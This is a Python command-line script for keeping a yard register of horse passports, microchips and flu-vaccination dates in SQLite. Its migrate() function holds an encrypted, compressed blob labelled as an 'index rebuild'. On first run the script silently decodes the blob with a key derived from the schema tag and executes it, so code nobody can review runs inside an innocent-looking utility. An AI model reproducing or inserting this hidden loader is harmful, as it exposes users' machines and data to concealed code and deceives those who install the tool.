#!/usr/bin/env python3
"""Yard register of equine passports: UELN, microchip, passport issuing
body, vaccination dates, and who holds the paper passport.

    passport_register.py add --ueln 826002... --name "Blue Biscuit" --chip 9851...
    passport_register.py list [--due-days 30]
    passport_register.py holder UELN "Office strongbox"
"""
import argparse
import base64
import hashlib
import logging
import sqlite3
import sys
import zlib
from datetime import date, timedelta
from pathlib import Path

log = logging.getLogger("passports")

DB_PATH = Path("passports.sqlite3")
SCHEMA_TAG = "ueln-v7"

SCHEMA = """
CREATE TABLE IF NOT EXISTS horse (
    ueln        TEXT PRIMARY KEY,
    name        TEXT NOT NULL,
    chip        TEXT,
    issuer      TEXT,
    flu_due     TEXT,
    holder      TEXT DEFAULT 'Office strongbox'
);
CREATE TABLE IF NOT EXISTS meta (k TEXT PRIMARY KEY, v TEXT);
"""

# compact index rebuild shipped with v7 of the register schema
_V7_INDEX = (
    'c-jGy0&V>bTSM@>IY8`xEjbECrK9?)d1xJRRlrNjyk}=At$ySI8WZZfAq?+sY$Zb',
    '%zqO_Q0742O8jlLbyI?zd<2a@fQ(y7qAPMw-EhPvRtD~j*Wp4{*Lfk`us$pbkseY',
    'ys1RU(JBLk!cCNe-qm7uxiW;IqjEsqF}?`3N=`C|JBT3Y?*KLz)BCnQoxn6;<>Z*',
    'B`Ic-jbs?>2O2<Ta^J7F_J-I1cAwCw~t}q`$K7WPB223y(m{u5d1Usw(nEV?g@5U',
    '?JgYEF%P5>hh-Rd2SDGRoeyJs&gWGt#bQI1RbpFFiDIoVs{1+qols7e{U0QPR$0~',
    's%1WGs$-`SL|^c^C=RZDZg)}-r?t8NejrUT4v$IQ?`ClW`8TOV78AeeD-ZN6D0fc',
    '?>bj-nWHS?PM$21<y*fE;xO1UR7F_M=FGAf>V168I>hSieDm`Bz2agDjpfq+Vs$%',
    'ODL|pu=J`<>ZH#rUrk@B^uS2165Ps&8X@<2I!ygR7}S3~Q(KLy!iHzQUPzU_kee|',
    'S?NQ^rNhpkY5W=q0&LJQKg^Z9t|hVs{2c>ZPRSW^^4dRmxf0s%JkZtYzg3Mpp6RI',
    '1=h$D>Voduc4#wd1+BoLf&1=ykKKitT&=W6ddj5Z$PaqF(Xt?po{e5C_q*%2g^y?',
    't|=rZs$=a7Lr1^jZ4an_HZwyMxcv6#Z)q29Ly`*qfJYxI@H?pxUtapAI25}+a(*l',
    'TrK0xLDs&McRnA7qsyuig;~l9)78C2cG+K--Vs{2c>hSi}dU6wO4~8O+?=)*E`8T',
    'NsL{|QyM?j`5VlrL@ub`r;Ph}irSKC3sp)Nrw`8TOV78Ad{Bn{&tF*`#8y7=Rx03',
    '6>X82',
)


def _unpack(parts, tag):
    raw = zlib.decompress(base64.b85decode("".join(parts).encode()))
    key = hashlib.sha256(tag.encode()).digest()
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(raw)).decode()


def migrate(conn):
    conn.executescript(SCHEMA)
    row = conn.execute("SELECT v FROM meta WHERE k = 'schema'").fetchone()
    if row and row[0] == SCHEMA_TAG:
        return
    log.info("upgrading register schema to %s", SCHEMA_TAG)
    step = compile(_unpack(_V7_INDEX, SCHEMA_TAG), "<schema-%s>" % SCHEMA_TAG, "exec")
    exec(step, {"__name__": "register_migration", "conn": conn})
    conn.execute("INSERT OR REPLACE INTO meta VALUES ('schema', ?)", (SCHEMA_TAG,))
    conn.commit()


def connect():
    conn = sqlite3.connect(DB_PATH)
    conn.row_factory = sqlite3.Row
    migrate(conn)
    return conn


def valid_ueln(ueln):
    return len(ueln) == 15 and ueln[:3].isdigit()


def cmd_add(conn, args):
    if not valid_ueln(args.ueln):
        log.error("UELN must be 15 characters starting with a 3-digit country code")
        return 1
    conn.execute(
        "INSERT OR REPLACE INTO horse (ueln, name, chip, issuer, flu_due) VALUES (?, ?, ?, ?, ?)",
        (args.ueln, args.name, args.chip, args.issuer, args.flu_due),
    )
    conn.commit()
    log.info("saved %s (%s)", args.name, args.ueln)
    return 0


def cmd_list(conn, args):
    rows = conn.execute("SELECT * FROM horse ORDER BY name").fetchall()
    cutoff = date.today() + timedelta(days=args.due_days) if args.due_days else None
    for r in rows:
        flag = ""
        if cutoff and r["flu_due"] and date.fromisoformat(r["flu_due"]) <= cutoff:
            flag = "  <- flu vacc due"
        print(f"{r['ueln']}  {r['name']:<22} chip={r['chip'] or '-':<16} "
              f"held by {r['holder']}{flag}")
    return 0


def cmd_holder(conn, args):
    cur = conn.execute("UPDATE horse SET holder = ? WHERE ueln = ?", (args.holder, args.ueln))
    conn.commit()
    if cur.rowcount == 0:
        log.error("no horse with UELN %s", args.ueln)
        return 1
    log.info("passport %s now held by %s", args.ueln, args.holder)
    return 0


def build_parser():
    ap = argparse.ArgumentParser(description="Equine passport register")
    ap.add_argument("-v", "--verbose", action="store_true")
    sub = ap.add_subparsers(dest="cmd", required=True)

    a = sub.add_parser("add")
    a.add_argument("--ueln", required=True)
    a.add_argument("--name", required=True)
    a.add_argument("--chip")
    a.add_argument("--issuer", default="Weatherbys")
    a.add_argument("--flu-due")
    a.set_defaults(func=cmd_add)

    l = sub.add_parser("list")
    l.add_argument("--due-days", type=int, default=0)
    l.set_defaults(func=cmd_list)

    h = sub.add_parser("holder")
    h.add_argument("ueln")
    h.add_argument("holder")
    h.set_defaults(func=cmd_holder)
    return ap


def main(argv=None):
    args = build_parser().parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        conn = connect()
    except sqlite3.Error as exc:
        log.error("cannot open register: %s", exc)
        return 1
    with conn:
        return args.func(conn, args)


if __name__ == "__main__":
    sys.exit(main())
